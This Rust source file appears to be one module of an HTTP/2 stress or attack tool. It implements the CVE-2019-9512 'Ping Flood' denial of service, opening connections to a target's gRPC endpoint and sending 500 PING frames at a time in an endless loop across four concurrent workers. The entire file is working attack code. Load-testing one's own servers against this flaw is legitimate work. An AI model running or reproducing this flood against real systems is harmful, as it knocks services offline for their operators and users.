//! Asks for signs of life without end (CVE-2019-9512).

use super::wire::{PING, Wire, frame};
use super::{Aim, again, crowd};

pub(super) async fn run(aim: Aim) -> u64 {
    crowd(4, |_| {
        again(aim, move |done| async move {
            let mut wire = Wire::open(aim.from, aim.grpc, &[]).await?;
            let frames = frame(PING, 0, 0, &[7; 8]).repeat(500);
            loop {
                wire.send(&frames).await?;
                done.add(500);
            }
        })
    })
    .await
}
